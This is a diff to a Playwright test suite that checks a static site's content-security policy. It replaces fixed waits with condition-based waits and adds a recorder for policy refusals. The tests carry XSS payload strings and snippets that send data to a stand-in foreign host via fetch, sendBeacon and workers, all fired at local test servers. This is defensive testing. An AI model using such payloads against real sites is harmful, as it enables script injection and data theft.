@@ -6,9 +6,11 @@ from pathlib import Path
 from urllib.parse import quote
 
 import pytest
-from playwright.sync_api import BrowserContext, FilePayload, Locator, Page, Request
+from playwright.sync_api import BrowserContext, FilePayload, Locator, Page, Request, expect
 
 from tests.site.server import Site, serve
+from tests.site.test_snapshot import wait_until_kept
+from tests.site.waiting import until, until_unchanged
 
 MARK = "planted"
 MARKUP = f'<img src=x class={MARK} onerror="{MARK}=1"><script>{MARK}=1</script>\'"><svg class={MARK} onload={MARK}=1>'
@@ -29,6 +31,8 @@ PLANTED = {
     "foreign sound": "<audio src='{foreign}x.mp3' preload=auto></audio>",
     "foreign base": "<base href='{foreign}'><script src='x.js'></script>",
 }
+# Notes what the policy refuses.
+NOTES_REFUSALS = "window.refusals = []; addEventListener('securitypolicyviolation', ({ blockedURI }) => refusals.push(blockedURI))"
 SENT = {
     "fetch": "(to) => fetch(to, { mode: 'no-cors' }).catch(() => 0)",
     "beacon": "(to) => { navigator.sendBeacon(to, 'x'); }",
@@ -66,13 +70,18 @@ def test_planted_element_is_dead(page: Page, root_site: Site, foreign: Site, bui
     planted = html.replace("<head>", f"<head>{PLANTED[name]}" if "base" in name else "<head>", 1)
     planted = planted.replace("</body>", f"{PLANTED[name]}</body>", 1).replace("{foreign}", foreign.url)
     assert planted != html
+    page.add_init_script(NOTES_REFUSALS)
     seen = {}
     for kind, page_html in {"strict": _policy_first(planted, html), "bare": without_policy(planted)}.items():
         foreign.requests.clear()
         root_site.pages["/planted/"] = page_html
         page.goto(f"{root_site.url}planted/")
-        page.wait_for_timeout(300)
-        seen[kind] = page.title() == "ran" or bool(foreign.requests)
+
+        def happened() -> bool:
+            return page.title() == "ran" or bool(foreign.requests)
+
+        until(page, happened if kind == "bare" else lambda: bool(page.evaluate("refusals")))
+        seen[kind] = happened()
     assert seen == {"strict": False, "bare": True}
 
 
@@ -87,15 +96,17 @@ def _policy_first(planted: str, html: str) -> str:
 def test_script_of_ours_cannot_send(page: Page, root_site: Site, foreign: Site, name: str):
     """Even a script that runs in a page reaches no other host; on a bare page it would."""
     root_site.pages["/bare/"] = "<!doctype html><title>bare</title><body>"
-    seen = []
-    for address in ("", "calculator/", "bare/"):
-        foreign.requests.clear()
+    page.add_init_script(NOTES_REFUSALS)
+    for address in ("", "calculator/"):
         page.goto(f"{root_site.url}{address}")
         page.evaluate(SENT[name], f"{foreign.url}secret")
-        page.wait_for_timeout(300)
-        seen.append(bool(foreign.requests))
-    # A classic worker of another host is refused by every browser anyway.
-    assert seen == [False, False, name != "worker"]
+        if name != "worker":  # a classic one of another host is refused by every browser, before any policy
+            until(page, lambda: f"{foreign.url}secret" in page.evaluate("refusals"))
+        assert foreign.requests == [], address
+    page.goto(f"{root_site.url}bare/")
+    page.evaluate(SENT[name], f"{foreign.url}secret")
+    if name != "worker":
+        until(page, lambda: bool(foreign.requests))
 
 
 def tool_pages(built: Path) -> list[str]:
@@ -136,7 +147,7 @@ def press_everything(page: Page) -> None:
     # In one step each, because a press may take the next button away.
     for button in page.query_selector_all("article button:not([type=reset])"):
         button.evaluate("button => button.checkVisibility() && !button.textContent.includes('지우기') && button.click()")
-    page.wait_for_timeout(500)
+    until_unchanged(page)
 
 
 def test_markup_typed_into_any_field_stays_text(context: BrowserContext, root_site: Site, built: Path):
@@ -179,7 +190,8 @@ def test_markup_in_the_search_stays_text(page: Page, root_site: Site):
     for text in (MARKUP, f"환급 {MARKUP}", "<b>상생페이백</b>"):
         box.fill("")
         box.press_sequentially(text)
-        page.wait_for_timeout(700)
+        page.locator("[data-search=said]").evaluate("said => { said.textContent = ''; }")
+        expect(page.locator("[data-search=said]")).not_to_be_empty()  # typing has come to rest
         assert page.evaluate(RAN) == QUIET
         assert page.locator(".md-search-result b").count() == 0
 
@@ -210,7 +222,7 @@ def test_markup_in_a_file_and_its_name_stays_text(context: BrowserContext, root_
             for _ in range(2):
                 assert page.evaluate(RAN) == QUIET, address
                 press_everything(page)
-            page.wait_for_timeout(3000)
+            until_unchanged(page)
             assert page.evaluate(RAN) == QUIET, address
             assert MARK in page.locator("article").inner_text()
             opened += 1
@@ -221,7 +233,7 @@ def test_markup_that_runs_would_be_seen(page: Page, root_site: Site):
     """Control: without a policy, the same markup put in as HTML is caught by the same question."""
     root_site.pages["/bare/"] = f"<!doctype html><title>bare</title><body>{MARKUP}"
     page.goto(f"{root_site.url}bare/")
-    page.wait_for_timeout(200)
+    until(page, lambda: page.evaluate(RAN)[0] == "number")
     kind, elements = page.evaluate(RAN)
     assert kind == "number"
     assert elements >= 2
@@ -236,7 +248,7 @@ def test_no_request_carries_what_was_typed(context: BrowserContext, root_site: S
         page.goto(root_site.url + address)
         fill_everything(page, "1234567")
         press_everything(page)
-        page.wait_for_timeout(3000)
+        wait_until_kept(page)
         assert "1234567" not in page.url
     assert asked
     for request in asked:
